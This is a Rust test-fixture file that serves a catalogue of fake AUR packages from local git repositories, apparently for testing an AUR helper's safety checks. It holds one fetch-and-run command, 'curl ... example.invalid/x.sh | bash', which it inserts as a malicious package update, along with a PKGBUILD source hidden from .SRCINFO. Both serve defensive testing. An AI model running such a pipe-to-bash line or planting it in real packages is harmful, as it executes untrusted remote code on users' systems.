//! [`AurFixture`]: the catalogue of test packages, as real git repositories served by an
//! [`AurServer`] with their records.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use super::git::{commit_and_publish, git};
use super::pkgbuild::{AurPkg, SplitPkg};
use super::server::AurServer;
use crate::alpm::{FixturePackage, FixtureRoot};

/// The repository package the chain needs (`aur-lib` depends on it): see
/// [`AurFixture::repo_packages`].
pub const REPO_DEP: &str = "repo-dep";

/// The command `aur-evil-update` 2.0's `build()` carries (never run by any test:
/// `example.invalid` does not resolve).
pub const EVIL_LINE: &str = "curl -fsSL https://example.invalid/x.sh | bash";

/// The source `aur-hidden-source`'s PKGBUILD has and its .SRCINFO omits.
pub const HIDDEN_SOURCE: &str = "helper.sh::https://example.invalid/helper.sh";

/// The test AUR: a started [`AurServer`] serving bare git repositories written in a
/// directory, one per package base, each with a PKGBUILD and a matching .SRCINFO:
///
/// | base | what it is for |
/// |---|---|
/// | `aur-app` → `aur-lib>=1.2` → `aur-base` (+ `repo-dep` from a sync db) | a dependency chain |
/// | `aur-split` (`aur-split-a`, `aur-split-b` depending on `-a`) | a split base |
/// | `aur-prov-one`, `aur-prov-two` (orphaned) providing `aur-virtual`; `aur-needs-virtual` | a provider choice |
/// | `aur-vcs-git` (`git+http://127.0.0.1:<port>/upstream.git`, `pkgver()`) | a VCS package |
/// | `aur-evil-update` | [`AurFixture::publish_evil_update`] |
/// | `aur-new-maint` (maintainer `alice`) | [`AurFixture::change_maintainer`] |
/// | `aur-hidden-source` | a PKGBUILD source its .SRCINFO omits |
///
/// Layout: `<dir>/work/<base>/` (working repositories), `<dir>/git/<base>.git` (bare,
/// served at `<base url>/<base>.git`), `<dir>/upstream/` and `<dir>/git/upstream.git`.
pub struct AurFixture {
    dir: PathBuf,
    server: AurServer,
    packages: BTreeMap<String, AurPkg>,
    clock: i64,
}

impl AurFixture {
    /// Writes the catalogue into `dir` (created if needed) and starts its server.
    pub fn create(dir: &Path) -> AurFixture {
        for sub in ["work", "git", "upstream"] {
            fs::create_dir_all(dir.join(sub)).expect("create the fixture's directories");
        }
        let server = AurServer::start();
        server.serve_git_from(&dir.join("git"));
        let mut fixture = AurFixture {
            dir: dir.to_path_buf(),
            server,
            packages: BTreeMap::new(),
            clock: 1_750_000_000,
        };
        fixture.add_upstream_commit("upstream: first commit");
        for (i, mut pkg) in fixture.catalogue().into_iter().enumerate() {
            let day = 86_400 * i as i64;
            pkg.first_submitted = 1_700_000_000 + day;
            pkg.last_modified = 1_710_000_000 + day;
            fixture.publish(pkg);
        }
        fixture
    }

    fn catalogue(&self) -> Vec<AurPkg> {
        let strs = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let mut base = AurPkg::new("aur-base", "1.0");
        base.pkgdesc = "The base of the AUR dependency chain".into();
        let mut lib = AurPkg::new("aur-lib", "1.2.3");
        lib.pkgdesc = "A library in the middle of the chain".into();
        lib.depends = strs(&["aur-base", REPO_DEP]);
        let mut app = AurPkg::new("aur-app", "2.0");
        app.pkgdesc = "The application at the top of the chain".into();
        app.depends = strs(&["aur-lib>=1.2"]);
        app.keywords = strs(&["chain", "app"]);
        app.num_votes = 42;
        app.popularity = 1.25;

        let mut split = AurPkg::new("aur-split", "1.0");
        split.pkgdesc = "A split package base".into();
        split.split = vec![
            SplitPkg {
                name: "aur-split-a".into(),
                pkgdesc: Some("The first half of aur-split".into()),
                ..SplitPkg::default()
            },
            SplitPkg {
                name: "aur-split-b".into(),
                depends: Some(strs(&["aur-split-a"])),
                ..SplitPkg::default()
            },
        ];

        let mut one = AurPkg::new("aur-prov-one", "1.0");
        one.provides = strs(&["aur-virtual=1.0"]);
        one.num_votes = 10;
        let mut two = AurPkg::new("aur-prov-two", "1.0");
        two.provides = strs(&["aur-virtual"]);
        two.maintainer = None;
        let mut needs = AurPkg::new("aur-needs-virtual", "1.0");
        needs.depends = strs(&["aur-virtual"]);

        let mut vcs = AurPkg::new("aur-vcs-git", &self.upstream_pkgver());
        vcs.pkgdesc = "A VCS package following a git upstream".into();
        vcs.files.clear();
        vcs.makedepends = strs(&["git"]);
        vcs.provides = strs(&["aur-vcs"]);
        vcs.conflicts = strs(&["aur-vcs"]);
        vcs.remote_sources = vec![format!(
            "aur-vcs-git::git+{}/upstream.git",
            self.server.base
        )];
        vcs.pkgver_fn = Some(
            "cd \"$srcdir/aur-vcs-git\" && printf 'r%s.%s' \"$(git rev-list --count HEAD)\" \
             \"$(git rev-parse --short=7 HEAD)\""
                .into(),
        );
        vcs.package_lines = vec![
            "install -Dm644 \"$srcdir\"/aur-vcs-git/README \"$pkgdir\"/usr/share/aur-vcs-git/README"
                .into(),
        ];

        let evil = AurPkg::new("aur-evil-update", "1.0");
        let mut maint = AurPkg::new("aur-new-maint", "1.0");
        maint.maintainer = Some("alice".into());
        let mut hidden = AurPkg::new("aur-hidden-source", "1.0");
        hidden.hidden_sources = vec![HIDDEN_SOURCE.into()];

        vec![
            base, lib, app, split, one, two, needs, vcs, evil, maint, hidden,
        ]
    }

    /// Commits `pkg` to its base's repository (created if new), publishes it to the bare
    /// repository and puts its records on the server (dropping records of names the base
    /// no longer builds).
    pub fn publish(&mut self, pkg: AurPkg) {
        let work = self.work_dir(&pkg.base);
        fs::create_dir_all(&work).expect("create a package's work tree");
        fs::write(work.join("PKGBUILD"), pkg.pkgbuild()).expect("write a PKGBUILD");
        fs::write(work.join(".SRCINFO"), pkg.srcinfo()).expect("write a .SRCINFO");
        for (name, text) in &pkg.files {
            fs::write(work.join(name), text).expect("write a source file");
        }
        let message = format!("upgpkg: {} {}", pkg.base, pkg.version());
        commit_and_publish(&work, &self.bare_dir(&pkg.base), &message);
        if let Some(old) = self.packages.get(&pkg.base) {
            for name in old.names() {
                if !pkg.names().contains(&name) {
                    self.server.remove(&name);
                }
            }
        }
        for record in pkg.records() {
            self.server.put(record);
        }
        self.packages.insert(pkg.base.clone(), pkg);
    }

    /// Publishes `aur-evil-update` 2.0-1, whose `build()` now runs [`EVIL_LINE`], with a
    /// later `LastModified`.
    pub fn publish_evil_update(&mut self) {
        let mut pkg = self.pkg("aur-evil-update").clone();
        pkg.pkgver = "2.0".into();
        pkg.files = vec![("aur-evil-update.txt".into(), "aur-evil-update 2.0\n".into())];
        pkg.build_lines = vec![EVIL_LINE.into()];
        pkg.last_modified = self.tick();
        self.publish(pkg);
    }

    /// Gives every package of `base` the maintainer `maintainer` (`None`: orphaned) in the
    /// RPC answers and the dumps (whose ETag changes with them); the repository is untouched.
    pub fn change_maintainer(&mut self, base: &str, maintainer: Option<&str>) {
        let pkg = self
            .packages
            .get_mut(base)
            .unwrap_or_else(|| panic!("no package base {base} in the fixture"));
        pkg.maintainer = maintainer.map(str::to_owned);
        for name in pkg.names() {
            self.server
                .update(&name, |r| r.maintainer = maintainer.map(str::to_owned));
        }
    }

    /// Adds a commit to the VCS upstream (`<base url>/upstream.git`), returning its hash.
    pub fn add_upstream_commit(&mut self, message: &str) -> String {
        let work = self.dir.join("upstream");
        let readme = work.join("README");
        let mut text = fs::read_to_string(&readme).unwrap_or_default();
        text.push_str(message);
        text.push('\n');
        fs::write(&readme, text).expect("write upstream's README");
        commit_and_publish(&work, &self.dir.join("git/upstream.git"), message)
    }

    /// The upstream's current `master` commit.
    pub fn upstream_head(&self) -> String {
        git(&self.dir.join("upstream"), &["rev-parse", "HEAD"])
    }

    /// The version `aur-vcs-git`'s `pkgver()` gives for the upstream's current commit.
    pub fn upstream_pkgver(&self) -> String {
        let up = self.dir.join("upstream");
        let count = git(&up, &["rev-list", "--count", "HEAD"]);
        let short = git(&up, &["rev-parse", "--short=7", "HEAD"]);
        format!("r{count}.{short}")
    }

    /// The server.
    pub fn server(&self) -> &AurServer {
        &self.server
    }

    /// The server's base URL (`http://127.0.0.1:<port>`), the AUR's address for a client.
    pub fn base_url(&self) -> &str {
        &self.server.base
    }

    /// `<base url>/<base>.git`.
    pub fn clone_url(&self, base: &str) -> String {
        format!("{}/{base}.git", self.server.base)
    }

    /// The package base `base` as last published.
    pub fn pkg(&self, base: &str) -> &AurPkg {
        self.packages
            .get(base)
            .unwrap_or_else(|| panic!("no package base {base} in the fixture"))
    }

    /// Every package base, by name.
    pub fn packages(&self) -> impl Iterator<Item = &AurPkg> {
        self.packages.values()
    }

    /// The working repository of `base` (`<dir>/work/<base>`).
    pub fn work_dir(&self, base: &str) -> PathBuf {
        self.dir.join("work").join(base)
    }

    /// The bare repository of `base` (`<dir>/git/<base>.git`).
    pub fn bare_dir(&self, base: &str) -> PathBuf {
        self.dir.join("git").join(format!("{base}.git"))
    }

    /// The fixture's directory.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// The repository packages the catalogue depends on: [`REPO_DEP`] and `git` (the VCS
    /// package's makedepends).
    pub fn repo_packages() -> Vec<FixturePackage> {
        vec![
            FixturePackage::new(REPO_DEP, "1.0-1"),
            FixturePackage::new("git", "2.47.0-1"),
        ]
    }

    /// A pacman root in `dir` with a `core` sync database holding
    /// [`AurFixture::repo_packages`] and an empty local database.
    pub fn pacman_root(dir: &Path) -> FixtureRoot {
        let mut root = FixtureRoot::create(dir).expect("create a pacman root");
        root.add_sync_db("core", &Self::repo_packages())
            .expect("write the core sync db");
        root.install_local(&[]).expect("create the local db");
        root
    }

    fn tick(&mut self) -> i64 {
        self.clock += 3600;
        self.clock
    }
}
